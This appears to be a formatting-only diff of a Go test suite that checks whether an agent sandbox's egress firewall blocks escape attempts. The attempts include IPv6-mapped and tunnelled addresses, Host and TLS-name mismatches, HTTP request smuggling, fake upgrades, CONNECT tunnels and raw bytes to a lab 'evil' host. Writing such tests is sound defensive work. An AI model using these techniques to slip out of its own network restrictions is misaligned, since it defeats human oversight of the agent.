@@ -58,7 +58,8 @@ func directAttacks() []Attack {
 		one("mapped-tcp", "an IPv4 address in the form of an IPv6 one, TCP", "", func(a *Agent) error {
 			return a.socket("[::ffff:"+a.v4.String()+"]:443", unix.SOCK_STREAM, 0, dualStack)
 		}),
-		one("mapped-udp", "an IPv4 address in the form of an IPv6 one, UDP", "", func(a *Agent) error { return a.socket("[::ffff:"+a.v4.String()+"]:443", unix.SOCK_DGRAM, 0, dualStack) }),
+		one("mapped-udp", "an IPv4 address in the form of an IPv6 one, UDP", "",
+			func(a *Agent) error { return a.socket("[::ffff:"+a.v4.String()+"]:443", unix.SOCK_DGRAM, 0, dualStack) }),
 		place("nat64", "an IPv4 address through NAT64", "", "64:ff9b::5db8:d942", 443),
 		place("6to4", "an IPv4 address through 6to4", "", "2002:5db8:d942::1", 443),
 		place("teredo", "an IPv4 address through Teredo", "", "2001:0:5db8:d942::1", 443),
@@ -77,16 +78,21 @@ func directAttacks() []Attack {
 		host("other-port-6", "another port of an allowed host over IPv6", "", "ok.test", okAddr6, "tcp", 8443),
 		host("ssh-allowed-host", "SSH to a host that is allowed for HTTPS", "", "ok.test", okAddr, "tcp", 22),
 		host("quic-allowed-host", "QUIC to a host that is allowed over TCP", "", "ok.test", okAddr, "udp", 443),
-		host("udp-allowed-host", "datagrams to a host that is allowed over TCP", "init-firewall.sh, every protocol of an address", "ok.test", okAddr, "udp", 5000),
+		host("udp-allowed-host", "datagrams to a host that is allowed over TCP", "init-firewall.sh, every protocol of an address",
+			"ok.test", okAddr, "udp", 5000),
 		host("https-ssh-host", "HTTPS at a host that is allowed for SSH alone", "", "git.test", gitAddr, "tcp", 443),
 		host("tcp-udp-host", "TCP at a host that is allowed over UDP alone", "", "udp.test", udpAddr, "tcp", 4000),
 		host("static-other-port", "another port of an address entry", "", "ok.test", staticAddr, "tcp", 8081),
 		place("next-address", "the address next to an allowed one", "", "93.184.216.81", 8080),
 		place("class-e", "an address of the reserved class E", "", "240.0.0.7", 443),
 		place("this-network", "an address of 0.0.0.0/8", "", "0.1.2.3", 443),
-		one("gateway-link-local", "the gateway at its link-local address", "", func(a *Agent) error { return a.udp("[fe80::1%eth0]:" + itoa(a.port)) }).vacuous("address resolution of that address is not answered in the lab"),
+		one("gateway-link-local", "the gateway at its link-local address", "",
+			func(a *Agent) error {
+				return a.udp("[fe80::1%eth0]:" + itoa(a.port))
+			}).vacuous("address resolution of that address is not answered in the lab"),
 		one("fragments", "a large datagram in fragments", "", func(a *Agent) error {
-			return all(send("udp", a.evil4(9999), []byte(strings.Repeat("x", 8000)), nil), send("udp", a.evil6(9999), []byte(strings.Repeat("x", 8000)), nil))
+			return all(send("udp", a.evil4(9999), []byte(strings.Repeat("x", 8000)), nil),
+				send("udp", a.evil6(9999), []byte(strings.Repeat("x", 8000)), nil))
 		}),
 		one("flood", "two thousand datagrams in a row", "", func(a *Agent) error {
 			conn, err := net.Dial("udp", a.evil4(9999))
@@ -140,31 +146,50 @@ func webAttacks() []Attack {
 		}
 	}
 	return []Attack{
-		one("other-site-tls", "another site on an allowed address, by its TLS name", "BullFrog, shared address", "neighbour.test", func(*Agent) error { return shake(webTLS, "neighbour.test") }),
-		one("other-site-http", "another site on an allowed address, by its Host", "", "neighbour.test", func(*Agent) error { _, err := fetch(web, "neighbour.test"); return err }),
-		one("doh-shared-address", "DNS over HTTPS on an allowed address", "", "dns.neighbour.test", func(*Agent) error { return shake(webTLS, "dns.neighbour.test") }),
+		one("other-site-tls", "another site on an allowed address, by its TLS name", "BullFrog, shared address", "neighbour.test",
+			func(*Agent) error { return shake(webTLS, "neighbour.test") }),
+		one("other-site-http", "another site on an allowed address, by its Host", "", "neighbour.test",
+			func(*Agent) error { _, err := fetch(web, "neighbour.test"); return err }),
+		one("doh-shared-address", "DNS over HTTPS on an allowed address", "", "dns.neighbour.test",
+			func(*Agent) error { return shake(webTLS, "dns.neighbour.test") }),
 		one("no-tls-name", "TLS without a name on an allowed address", "", "(none)", func(*Agent) error { return shake(webTLS, "") }),
 		one("literal-host", "an address as the Host", "", okAddr, func(*Agent) error { _, err := fetch(web, okAddr); return err }),
-		one("prefix-name", "a name that begins like an allowed one", "CVE-2026-24052", "ok.test.evil", func(*Agent) error { return shake(webTLS, "ok.test.evil.test") }),
+		one("prefix-name", "a name that begins like an allowed one", "CVE-2026-24052", "ok.test.evil",
+			func(*Agent) error { return shake(webTLS, "ok.test.evil.test") }),
 		one("suffix-name", "a name that ends like an allowed one", "", "notok.test", func(*Agent) error { return shake(webTLS, "notok.test") }),
-		one("two-hosts", "two Host lines, the second another site", "", "neighbour.test", func(*Agent) error { _, err := fetch(web, "ok.test", "Host: neighbour.test\r\n"); return err }).vacuous("an honest server refuses it as well; others take the second"),
-		one("absolute-target", "another site as an absolute target behind an allowed Host", "", "neighbour.test", bytes(web, func(*Agent) string { return "GET http://neighbour.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n" })),
+		one("two-hosts", "two Host lines, the second another site", "", "neighbour.test",
+			func(*Agent) error {
+				_, err := fetch(web, "ok.test", "Host: neighbour.test\r\n")
+				return err
+			}).vacuous("an honest server refuses it as well; others take the second"),
+		one("absolute-target", "another site as an absolute target behind an allowed Host", "", "neighbour.test",
+			bytes(web, func(*Agent) string { return "GET http://neighbour.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n" })),
 		one("second-request", "another site by the second request of a connection", "", "neighbour.test", bytes(web, func(*Agent) string {
 			return "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\nGET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
 		})),
-		one("smuggled-request", "another site inside the body that one of two lengths describes", "", "neighbour.test", bytes(web, func(*Agent) string {
-			return "POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
-		})),
-		one("switch-that-is-none", "another site behind a 101 that a site answers and does not mean", "", "neighbour.test", bytes(web, func(*Agent) string {
-			return switchPath + "HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" +
-				"GET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
-		})),
-		one("first-site", "the first site of an allowed address, by a Host that many servers do not recognise", "", "OK.test.:80", bytes(web, func(*Agent) string { return "GET / HTTP/1.1\r\nHost: OK.test.:80\r\n\r\n" })),
-		one("connect", "a tunnel by CONNECT through an allowed web server", "claude-code #87381", "neighbour.test", bytes(web, func(*Agent) string { return "CONNECT neighbour.test:443 HTTP/1.1\r\nHost: neighbour.test\r\n\r\n" })),
-		one("raw-on-443", "bytes that are no TLS to port 443 of an allowed address", "", "leak-raw-on-443", bytes(webTLS, func(a *Agent) string { return a.word + "\r\n\r\n" })),
-		one("raw-on-80", "bytes that are no HTTP to port 80 of an allowed address", "", "leak-raw-on-80", bytes(web, func(a *Agent) string { return a.word + "\r\n\r\n" })),
-		one("ssh-on-443", "an SSH greeting to port 443 of an allowed address", "", "SSH-2.0", bytes(webTLS, func(*Agent) string { return "SSH-2.0-OpenSSH_9.2\r\n" })),
-		one("wildcard-on-exact", "an allowed name at an address that is not its own", "", "cdn.wild.test", func(*Agent) error { return all(learn("cdn.wild.test"), shake(webTLS, "cdn.wild.test")) }),
+		one("smuggled-request", "another site inside the body that one of two lengths describes", "", "neighbour.test",
+			bytes(web, func(*Agent) string {
+				return "POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n" +
+					"Host: neighbour.test\r\n\r\n"
+			})),
+		one("switch-that-is-none", "another site behind a 101 that a site answers and does not mean", "", "neighbour.test",
+			bytes(web, func(*Agent) string {
+				return switchPath +
+					"HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" +
+					"GET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
+			})),
+		one("first-site", "the first site of an allowed address, by a Host that many servers do not recognise", "", "OK.test.:80",
+			bytes(web, func(*Agent) string { return "GET / HTTP/1.1\r\nHost: OK.test.:80\r\n\r\n" })),
+		one("connect", "a tunnel by CONNECT through an allowed web server", "claude-code #87381", "neighbour.test",
+			bytes(web, func(*Agent) string { return "CONNECT neighbour.test:443 HTTP/1.1\r\nHost: neighbour.test\r\n\r\n" })),
+		one("raw-on-443", "bytes that are no TLS to port 443 of an allowed address", "", "leak-raw-on-443",
+			bytes(webTLS, func(a *Agent) string { return a.word + "\r\n\r\n" })),
+		one("raw-on-80", "bytes that are no HTTP to port 80 of an allowed address", "", "leak-raw-on-80",
+			bytes(web, func(a *Agent) string { return a.word + "\r\n\r\n" })),
+		one("ssh-on-443", "an SSH greeting to port 443 of an allowed address", "", "SSH-2.0",
+			bytes(webTLS, func(*Agent) string { return "SSH-2.0-OpenSSH_9.2\r\n" })),
+		one("wildcard-on-exact", "an allowed name at an address that is not its own", "", "cdn.wild.test",
+			func(*Agent) error { return all(learn("cdn.wild.test"), shake(webTLS, "cdn.wild.test")) }),
 		one("site-6", "another site on an allowed IPv6 address", "", "", func(*Agent) error {
 			_, err := resolve("ok.test", dnsmessage.TypeAAAA)
 			return all(err, shake(at(okAddr6, 443), "neighbour.test"))
